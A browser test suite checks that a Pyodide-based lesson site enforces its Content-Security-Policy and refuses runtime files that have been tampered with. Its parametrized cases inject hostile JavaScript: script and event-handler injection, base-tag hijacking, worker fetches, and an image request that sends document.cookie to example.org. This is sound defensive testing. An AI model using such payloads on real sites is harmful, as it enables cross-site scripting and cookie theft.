"""What a page may load and run: the site's own scripts, a runtime whose hashes are right, nothing
else.
"""

import base64
import functools
import hashlib
import re
import threading
from html import unescape

import pytest

from lora_np import exercises
from tests.site.conftest import Quiet, Server

pytestmark = pytest.mark.browser
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
SCRIPT = re.compile(r"<script([^>]*)>(.*?)</script>", re.DOTALL)
LESSON = exercises.lessons([3])[0]
ONE = LESSON.exercises[0]


def pages(site):
    return [path for path in site.rglob("*.html") if path.relative_to(site).parts[0] != "_static"]


def rules(page):
    (text,) = POLICY.findall(page)
    parts = (part.split() for part in unescape(text).split("; "))
    return {name: places for name, *places in parts}


def test_every_page_has_one_policy_before_all_that_loads(site):
    found = pages(site)
    assert len(found) > 100
    for path in found:
        page = path.read_text(encoding="utf-8")
        head = page.partition("<meta http-equiv=")[0]
        assert not re.search(r"<(script|link|img|style|body)", head), path
        told = rules(page)
        assert told["default-src"] == ["'none'"], path
        assert told["base-uri"] == ["'none'"]


def test_a_policy_allows_this_site_and_the_scripts_inside_the_page_only(site):
    """Neither another host, nor text that becomes a script, nor a script that is not there."""
    for path in pages(site):
        page = path.read_text(encoding="utf-8")
        told = rules(page)
        inside = {
            f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"
            for attributes, text in SCRIPT.findall(page)
            if "src=" not in attributes and "json" not in attributes
        }
        assert set(told.pop("script-src")) == {"'self'", "'wasm-unsafe-eval'", *inside}, path
        allowed = {place for places in told.values() for place in places}
        own = {"'none'", "'self'", "blob:", "data:", "'unsafe-inline'"}
        if (site / "_static" / "python" / "pyodide").is_dir():
            assert allowed <= own, path
        else:
            (elsewhere,) = allowed - own
            assert re.fullmatch(r"https://[\w.]+/pyodide/v[\d.]+/full/", elsewhere)
            assert elsewhere in told["connect-src"]


@pytest.mark.parametrize(
    ("what", "code"),
    [
        ("a script that is written into the page",
         "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s);"),
        ("a handler in an attribute", "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.hit = 1\">');"),
        ("a script of another host",
         "const s = document.createElement('script'); s.src = 'https://example.org/x.js'; document.body.append(s);"),
        ("text that is evaluated", "try { setTimeout('window.hit = 1', 0); } catch {}"),
        ("a request to another host", "fetch('https://example.org/').then(() => { window.hit = 1; }, () => {});"),
        ("a picture of another host", "new Image().src = 'https://example.org/' + document.cookie;"),
        ("a frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: '404.html' }));"),
        ("another base", "document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.org/' }));"),
        ("a worker that asks another host",
         "new Worker(URL.createObjectURL(new Blob([\"fetch('https://example.org/')"
         ".then(() => postMessage(1), () => {})\"]))).onmessage = () => { window.hit = 1; };"),
    ],
)  # fmt: skip
def test_a_page_refuses(chromium, address, what, code):
    context = chromium.new_context()
    asked = []
    context.route(
        lambda url: "example.org" in url,
        lambda route: asked.append(route.request.url) or route.abort(),
    )
    page = context.new_page()
    page.goto(address + "index.html")
    refused = page.evaluate(
        """async (code) => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
          (0, Object.getPrototypeOf(async function () {}).constructor);
          await RUN();
          await new Promise((resolve) => setTimeout(resolve, 500));
          return [refused, window.hit];
        }""".replace("RUN()", f"(async () => {{ {code} }})()"),
        code,
    )  # fmt: skip
    assert refused[1] is None, what
    assert asked == []
    assert refused[0] or "worker" in what  # what happens in a worker is told there
    assert page.evaluate("document.baseURI").startswith(address)
    context.close()


def tampering(site, root, name):
    """A server that adds a byte to each file of this name."""

    class Tampering(Quiet):
        def do_GET(self):
            path = root / self.path.split("?")[0].lstrip("/")
            if not self.path.split("?")[0].endswith(name):
                return super().do_GET()
            content = path.read_bytes() + b"\n"
            self.send_response(200)
            self.send_header("Content-Type", self.guess_type(str(path)))
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)
            return None

    return functools.partial(Tampering, directory=str(root))


@pytest.mark.parametrize(
    "name",
    ["pyodide.js", "pyodide.asm.js", "pyodide.asm.wasm", "python_stdlib.zip", "pyodide-lock.json", "numpy*", "lora_np*", "(none)"],
)  # fmt: skip
def test_a_file_of_the_runtime_that_was_changed_is_not_run(chromium, site, root, name):
    from playwright.sync_api import expect

    if not (site / "_static" / "python" / "pyodide" / "pyodide.js").is_file():
        pytest.skip("the site was built without PYODIDE_DIST, so it has no runtime of its own")
    if name.endswith("*"):
        ((wheel),) = (site / "_static" / "python").rglob(f"{name.removesuffix('*')}-*.whl")
        name = wheel.name
    with Server(("127.0.0.1", 0), tampering(site, root, name)) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        context = chromium.new_context()
        page = context.new_page()
        folder = "" if site == root else f"{site.name}/"
        page.goto(f"http://127.0.0.1:{server.server_port}/{folder}practice/{LESSON.stem}.html")
        form = page.locator(f"form[data-exercise={ONE.name}]")
        form.locator("textarea").fill(exercises.solution(ONE.name).code)
        form.get_by_role("button", name="Check").click()
        outcome = form.locator("[data-show=outcome]")
        if name == "(none)":
            expect(outcome).to_contain_text("All laws hold")
        else:
            expect(outcome).to_contain_text("Python could not be loaded")
            expect(outcome).to_contain_text(name)
        context.close()
        server.shutdown()
